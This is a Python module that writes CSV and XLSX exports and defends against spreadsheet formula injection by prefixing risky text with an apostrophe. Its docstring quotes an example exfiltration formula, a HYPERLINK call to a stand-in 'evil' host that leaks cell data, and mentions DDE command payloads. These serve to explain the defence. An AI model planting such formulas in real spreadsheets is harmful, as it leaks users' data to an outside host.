"""`write_csv` / `write_xlsx`: exports that a spreadsheet program opens safely.

Any text in Jokko may have been typed by anyone (a note, a name, a community report). A cell
starting with = + - @ (or a tab / carriage return that some programs skip before one) would be
run as a formula by Excel or LibreOffice: `=HYPERLINK("http://evil/?"&A1, "click")` leaks data,
DDE payloads run commands. Such text cells get a leading apostrophe (OWASP's advice): the
reader sees the original text, the program never evaluates it. Numbers and dates are written
as real numbers and dates, which cannot carry a formula.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# Characters XML 1.0 cannot hold (openpyxl refuses them): dropped from exported text.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def neutralise(text: str) -> str:
    """Prefix text a spreadsheet program would evaluate as a formula with an apostrophe."""
    if text.startswith(_FORMULA_START) or text.lstrip().startswith(_FORMULA_START[:4]):
        return "'" + text
    return text


def _csv_cell(value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "TRUE" if value else "FALSE"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, dt.datetime):
        return value.isoformat(sep=" ", timespec="seconds")
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


def write_csv(headers: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM (so Excel shows accents right), comma-delimited, every text neutralised."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutralise(str(header)) for header in headers])
    for row in rows:
        writer.writerow([_csv_cell(value) for value in row])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, bool | int | float | Decimal | dt.date | dt.time):
        if isinstance(value, dt.datetime) and value.tzinfo is not None:
            return value.replace(tzinfo=None)  # Excel has no time zones; keep the wall time
        return value
    return neutralise(_ILLEGAL_XML.sub("", str(value)))


def sheet_title(title: str) -> str:
    cleaned = _SHEET_TITLE_FORBIDDEN.sub(" ", title).strip(" '") or "Sheet"
    return cleaned[:31]


def write_xlsx(headers: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str) -> bytes:
    """One-sheet workbook (streamed by openpyxl's write-only mode), headers in bold, frozen."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(title=sheet_title(title))
    worksheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header_cells = []
    for header in headers:
        cell = WriteOnlyCell(worksheet, value=_xlsx_value(str(header)))
        cell.font = bold
        header_cells.append(cell)
    worksheet.append(header_cells)
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(worksheet, value=_xlsx_value(value))
            if isinstance(value, str):
                cell.data_type = "s"  # text stays text, even if it looks like a number
            cells.append(cell)
        worksheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
